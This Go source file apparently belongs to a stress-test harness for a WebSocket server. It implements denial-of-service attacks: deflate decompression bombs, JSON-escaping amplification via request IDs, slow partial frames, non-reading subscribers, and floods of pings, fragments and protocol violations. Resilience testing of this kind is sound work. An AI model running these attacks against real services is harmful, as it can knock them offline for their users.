//go:build linux

package main

import (
	"bytes"
	"compress/flate"
	"fmt"
	"strings"
	"time"
)

// Attacks with frames and messages.

// attackBytes is about the largest message that the server's defaults allow.
const attackBytes = 500_000

// requestFrame is a request, as one frame.
func requestFrame(event, id, data string) []byte {
	return maskedFrame(opText, requestText(event, id, data))
}

func requestText(event, id, data string) []byte {
	return fmt.Appendf(nil, `{"type":"request","event":"%s","request_id":"%s","data":%s}`, event, id, data)
}

// deflateHeaders asks for compression.
const deflateHeaders = "Sec-WebSocket-Extensions: permessage-deflate; client_no_context_takeover; server_no_context_takeover\r\n"

// opDeflatedText is the first byte of a compressed text, without the bit of the
// last fragment.
const opDeflatedText = 0x40 | opText

// bitWriter writes the bits of a deflate stream.
type bitWriter struct {
	b    []byte
	used int // bits of the last byte
}

// put writes the n lowest bits of v, the lowest first.
func (w *bitWriter) put(v uint32, n int) {
	for ; n > 0; n-- {
		if w.used&7 == 0 {
			w.b = append(w.b, 0)
		}
		w.b[len(w.b)-1] |= byte(v&1) << (w.used & 7)
		w.used++
		v >>= 1
	}
}

// emptyBlock writes a block with Huffman codes of its own and nothing in it (RFC
// 1951, section 3.2.7), in 90 bits.
func (w *bitWriter) emptyBlock() {
	w.put(0, 1)  // not the last
	w.put(2, 2)  // dynamic codes
	w.put(0, 5)  // 257 literal codes
	w.put(0, 5)  // 1 distance code
	w.put(14, 4) // 18 lengths of code length codes, in their peculiar order
	for i := range 18 {
		switch i {
		case 2, 17: // those of 18 (many zeros) and 1
			w.put(1, 3)
		default:
			w.put(0, 3)
		}
	}
	w.put(1, 1) // 138 zeros
	w.put(127, 7)
	w.put(1, 1) // 118 zeros
	w.put(107, 7)
	w.put(0, 1) // length 1 for the end of the block ...
	w.put(0, 1) // ... and for the distance
	w.put(0, 1) // the end of the block
}

// emptyBlocks is text, stored, with empty blocks behind it, in size bytes or a
// few more: a permessage-deflate payload.
func emptyBlocks(text []byte, size int) []byte {
	w := new(bitWriter)
	w.put(0, 8) // a stored block that is not the last
	n := uint16(len(text))
	w.b = append(w.b, byte(n), byte(n>>8), byte(^n), byte(^n>>8))
	w.b = append(w.b, text...)
	for len(w.b) < size {
		w.emptyBlock()
	}
	w.put(0, 3) // the stored block whose other bytes RFC 7692 leaves out
	return w.b
}

func prepareEmptyBlocks(*strike) any {
	return maskedFrame(opDeflatedText, emptyBlocks(requestText("noop", "1", `{}`), attackBytes))
}

// inflateEmpty sends 1.7 MB in a second.
func inflateEmpty(s *strike, i int) {
	message := s.shared.([]byte)
	s.reconnecting(deflateHeaders, func(a *attacker) {
		at := 0
		s.paced(i, 50, func(int) bool {
			end := min(len(message), at+34_000)
			err := a.write(message[at:end])
			at = end % len(message)
			return err == nil
		})
	})
}

// ratioMessage inflates to attackBytes; the rest of it is white space.
func ratioMessage() []byte {
	var b bytes.Buffer
	w, _ := flate.NewWriter(&b, flate.BestCompression) // the level is valid
	_, _ = w.Write(requestText("noop", "1", "{"+strings.Repeat(" ", attackBytes)+"}"))
	_ = w.Flush()
	return bytes.TrimSuffix(b.Bytes(), []byte{0, 0, 0xFF, 0xFF})
}

func prepareRatio(*strike) any { return maskedFrame(opDeflatedText, ratioMessage()) }

func inflateRatio(s *strike, i int) { s.sendPaced(i, 310, deflateHeaders) }

// prepareRequestID returns a request whose ID would grow sixfold in an answer
// that encoding/json writes.
func prepareRequestID(*strike) any {
	return requestFrame("noop", "é"+strings.Repeat("<", attackBytes/2), `{}`)
}

func requestIDs(s *strike, i int) {
	message := s.shared.([]byte)
	a, err := s.open("", "")
	if err != nil {
		return
	}
	s.paced(i, 100, func(int) bool { // 25 MB a second of all
		return a.write(message) == nil
	})
	_ = s.sleep(time.Hour)
	a.finish()
}

// unfinished sends the head and the first 499,000 bytes of a frame of 500,000.
func unfinished(s *strike, i int) {
	if !s.sleep(time.Duration(i) * s.Duration / 2 / time.Duration(s.Clients)) {
		return
	}
	a, err := s.open("", "")
	if err != nil {
		return
	}
	frame := unfinishedFrame
	err = a.write(frame[:len(frame)-1000])
	for k := len(frame) - 1000; err == nil && s.sleep(time.Second); k++ {
		err = a.write(frame[k : k+1])
	}
	a.finish()
}

// unfinishedFrame is the message that the attack unfinished begins. Immutable.
var unfinishedFrame = maskedFrame(opBinary, make([]byte, attackBytes))

// notReading subscribes to the stream of the healthy clients.
func notReading(s *strike, i int) {
	if !s.sleep(time.Duration(i) * time.Millisecond) {
		return
	}
	a, err := s.open("", "")
	if err != nil {
		return
	}
	err = a.write(requestFrame("stream", "1", `{}`))
	for err == nil && s.sleep(time.Second) {
		err = a.write(maskedFrame(opPong, nil))
	}
	a.finish()
}

// violate breaks the protocol once and goes on as if nothing was.
func violate(s *strike, _ int) {
	broken := maskedFrame(opText, []byte("hello"))
	broken[0] |= 0x70
	var more []byte
	for range 16 {
		more = append(more, maskedFrame(opBinary, make([]byte, 4096))...)
	}
	s.reconnecting("", func(a *attacker) {
		for err := a.write(broken); err == nil && !s.over(); {
			err = a.write(more)
		}
	})
}

// pings sends pings, and again when it is thrown out.
func pings(s *strike, _ int) {
	s.sendAlways(bytes.Repeat(maskedFrame(opPing, []byte("ping")), 1000))
}

// fragments begins a message and goes on with empty fragments.
func fragments(s *strike, _ int) {
	first, empty := maskedFrame(opText, []byte("{")), maskedFrame(0, nil)
	first[0], empty[0] = opText, 0
	more := bytes.Repeat(empty, 5000)
	s.reconnecting("", func(a *attacker) {
		for err := a.write(first); err == nil && !s.over(); {
			err = a.write(more)
		}
	})
}

// sendAlways sends b at full speed on a connection that reads, and connects
// again when the server ends it.
func (s *strike) sendAlways(b []byte) {
	s.reconnecting("", func(a *attacker) {
		for !s.over() && a.write(b) == nil {
		}
	})
}

// sendPaced sends the shared message at a rate of all clients together, and reads.
func (s *strike) sendPaced(i int, rate float64, headers string) {
	s.reconnecting(headers, func(a *attacker) {
		s.paced(i, rate, func(int) bool { return a.write(s.shared.([]byte)) == nil })
	})
}
